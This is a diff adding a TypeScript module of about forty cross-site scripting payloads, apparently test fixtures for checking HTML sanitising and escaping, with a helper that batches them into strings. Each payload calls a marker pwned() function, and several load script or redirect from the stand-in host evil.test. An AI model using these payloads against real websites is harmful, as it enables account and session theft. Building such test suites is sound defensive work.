@@ -1,0 +1,58 @@
+/**
+ * Texts that would act if a page took them for more than text: by tags, attributes, addresses, styles, templates, and by
+ * breaking out of what stands around them. Each fits into a group's name. What acts calls `pwned()` or leaves `#pwned`.
+ */
+export const SCRIPT_STRINGS: readonly string[] = [
+  '<script>pwned()</script>',
+  '<script src=//evil.test/pwned.js></script>',
+  '<ScRiPt>pwned()</sCrIpT>',
+  '<script>/*</script><script>*/pwned()</script>',
+  '</title><script>pwned()</script>',
+  '</textarea><script>pwned()</script>',
+  '</style><script>pwned()</script>',
+  '</noscript><script>pwned()</script>',
+  '--><script>pwned()</script><!--',
+  ']]><script>pwned()</script>',
+  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
+  '&lt;script&gt;pwned()&lt;/script&gt;',
+  '%3Cscript%3Epwned()%3C/script%3E',
+  '<img id=pwned src=x onerror=pwned()>',
+  '<img id=pwned src=x onerror="pwned()"//',
+  '"><img id=pwned src=x onerror=pwned()>',
+  "'><img id=pwned src=x onerror=pwned()>",
+  '`><img id=pwned src=x onerror=pwned()>',
+  '<svg id=pwned onload=pwned()>',
+  '<svg id=pwned><script>pwned()</script></svg>',
+  '<svg id=pwned><animate onbegin=pwned() attributeName=x>',
+  '<math id=pwned><mtext><script>pwned()</script>',
+  '<body id=pwned onload=pwned()>',
+  '<iframe id=pwned srcdoc="<script>pwned()</script>">',
+  '<iframe id=pwned src=javascript:pwned()>',
+  '<object id=pwned data=javascript:pwned()>',
+  '<embed id=pwned src=javascript:pwned()>',
+  '<a id=pwned href=javascript:pwned()>press</a>',
+  'javascript:pwned()',
+  'JaVaScRiPt:pwned()//',
+  'data:text/html,<script>pwned()</script>',
+  '<form id=pwned action=javascript:pwned()><button>ok',
+  '<input id=pwned autofocus onfocus=pwned()>',
+  '<details id=pwned open ontoggle=pwned()>',
+  '<video id=pwned><source onerror=pwned()>',
+  '<style id=pwned>*{background:url(javascript:pwned())}</style>',
+  '<link id=pwned rel=stylesheet href=//evil.test/pwned.css>',
+  '<meta id=pwned http-equiv=refresh content=0;url=//evil.test>',
+  '{{constructor.constructor("pwned()")()}}',
+  '"onmouseover="pwned()" x="',
+];
+
+/** The strings, as many on lines of one text as fit into so many characters. */
+export function textsOf(most: number): string[] {
+  const texts: string[] = [];
+  for (const string of SCRIPT_STRINGS) {
+    const last = texts.at(-1);
+    const together = last === undefined ? string : `${last}\n${string}`;
+    if (last !== undefined && together.length <= most) texts[texts.length - 1] = together;
+    else texts.push(string);
+  }
+  return texts;
+}
